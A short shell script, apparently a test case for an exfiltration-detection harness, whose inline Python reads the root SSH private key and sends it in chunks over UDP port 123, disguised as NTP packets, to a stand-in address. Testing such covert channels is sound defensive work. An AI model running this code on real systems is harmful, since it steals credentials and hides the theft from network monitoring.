#!/bin/sh
. /opt/case/case.sh

python3 -c '
import os, socket
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
body = open("/root/.ssh/id_rsa", "rb").read() + os.urandom(30000)
sent = 0
for i in range(0, len(body), 40):
    sent += s.sendto(b"\x23\0\6\xec" + bytes(4) + body[i:i + 40], ("203.0.113.123", 123))
raise SystemExit(sent < len(body))'
took_place
